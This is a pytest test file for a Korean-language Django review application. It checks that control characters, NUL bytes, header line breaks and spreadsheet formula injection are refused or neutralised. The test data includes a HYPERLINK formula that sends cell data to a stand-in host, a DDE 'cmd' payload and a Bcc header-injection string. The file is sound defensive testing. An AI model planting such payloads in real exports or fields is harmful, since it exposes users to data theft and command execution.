"""Text that is only text: control characters refused in every one-line field (model forms,
the admin, full_clean), a NUL in an address or form is a 400, subjects are one line, and
spreadsheet cells never start a formula."""

import pytest
from django.contrib import admin
from django.core.exceptions import ValidationError
from django.forms import modelform_factory
from django.test import RequestFactory

from accounts.models import Role
from core.text import MultiLineValidator, SingleLineValidator, one_line, spreadsheet_cell
from projects.models import Department, Proposal
from reviews.models import ReviewMeeting
from tests.factories import DepartmentFactory, MeetingFactory, UserFactory


@pytest.mark.parametrize(
    "value", ["보고회\n2차", "탭\t있음", "널\x00", "벨\x07", "C1\x85", "DEL\x7f"]
)
def test_a_one_line_validator_refuses_control_characters_in_korean(value):
    """Line breaks, tabs, NUL and other C0/C1 controls are refused, naming the character."""
    with pytest.raises(ValidationError) as info:
        SingleLineValidator()(value)
    assert "제어 문자" in info.value.messages[0]
    assert "U+00" in info.value.messages[0]


def test_a_multi_line_field_keeps_line_breaks_and_tabs_but_not_other_controls():
    """Multi-line text may hold line breaks (CR/LF) and tabs; a NUL is still refused."""
    MultiLineValidator()("첫 줄\r\n둘째 줄\t끝")
    with pytest.raises(ValidationError):
        MultiLineValidator()("첫 줄\x00")


@pytest.mark.django_db
def test_every_one_line_model_field_refuses_a_line_break_in_full_clean():
    """The validator is on the model fields themselves, so full_clean refuses the value."""
    meeting = MeetingFactory()
    meeting.title = "보고회\r\nBcc: x@example.invalid"
    with pytest.raises(ValidationError) as info:
        meeting.full_clean()
    assert "제어 문자" in " ".join(info.value.message_dict["title"])


def test_the_validators_are_attached_to_char_and_text_fields_but_not_choices():
    """One-line fields get the one-line rule, text fields the multi-line rule."""
    title = ReviewMeeting._meta.get_field("title")
    summary = Proposal._meta.get_field("summary")
    status = Proposal._meta.get_field("status")
    assert any(isinstance(v, SingleLineValidator) for v in title.validators)
    assert any(type(v) is MultiLineValidator for v in summary.validators)
    assert not any(isinstance(v, SingleLineValidator) for v in status.validators)


@pytest.mark.django_db
def test_a_model_form_and_the_admin_form_refuse_a_control_character():
    """Forms built from the models, the admin's included, refuse the value with the message."""
    form = modelform_factory(Department, fields=["name", "email"])(
        data={"name": "기획\x01예산과", "email": ""}
    )
    assert not form.is_valid() and "제어 문자" in form.errors["name"][0]

    request = RequestFactory().get("/")
    request.user = UserFactory(role=Role.PLANNING, is_staff=True, is_superuser=True)
    model_admin = admin.site._registry[Department]
    AdminForm = model_admin.get_form(request)
    form = AdminForm(data={"name": "기획\n예산과", "email": ""})
    assert not form.is_valid() and "제어 문자" in form.errors["name"][0]


@pytest.mark.django_db
def test_existing_departments_pass_and_a_clean_name_saves():
    """Ordinary text is untouched by the rule."""
    department = DepartmentFactory(name="기획예산과")
    department.full_clean()


@pytest.mark.django_db
def test_a_nul_in_the_calendar_address_is_a_400_not_a_500(client):
    """GET /reviews/calendar/%00.ics answers 400 with a Korean message."""
    response = client.get("/reviews/calendar/%00.ics")
    assert response.status_code == 400
    assert "NUL" in response.content.decode()


@pytest.mark.django_db
def test_a_nul_in_a_query_string_or_a_form_field_is_a_400(client):
    """Signed in or not, a NUL in a query parameter or a posted field is refused with 400."""
    client.force_login(UserFactory(role=Role.PLANNING))
    assert client.get("/proposals/", {"q": "사업\x00"}).status_code == 400
    client.logout()
    response = client.post("/accounts/login/", {"username": "a\x00", "password": "x"})
    assert response.status_code == 400


def test_subjects_are_one_line():
    """Line breaks and other controls in a subject become single spaces."""
    assert one_line("[광양] 보고회\r\n2차\t 종료\x00 요약") == "[광양] 보고회 2차 종료 요약"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK("),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
    ],
)
def test_cells_that_would_start_a_formula_get_an_apostrophe(value, expected):
    """OWASP CSV injection: text starting = + - @ tab or CR is made plain text."""
    assert spreadsheet_cell(value).startswith(expected)


def test_other_cells_and_signed_figures_pass_unchanged():
    """Plain text, numbers and the briefing's signed changes (-8.3%p, +1) are left alone."""
    assert spreadsheet_cell("그린수소") == "그린수소"
    assert spreadsheet_cell("-8.3%p") == "-8.3%p"
    assert spreadsheet_cell("+1") == "+1"
    assert spreadsheet_cell("-1,200") == "-1,200"
    assert spreadsheet_cell(-5) == -5
    assert spreadsheet_cell(None) is None
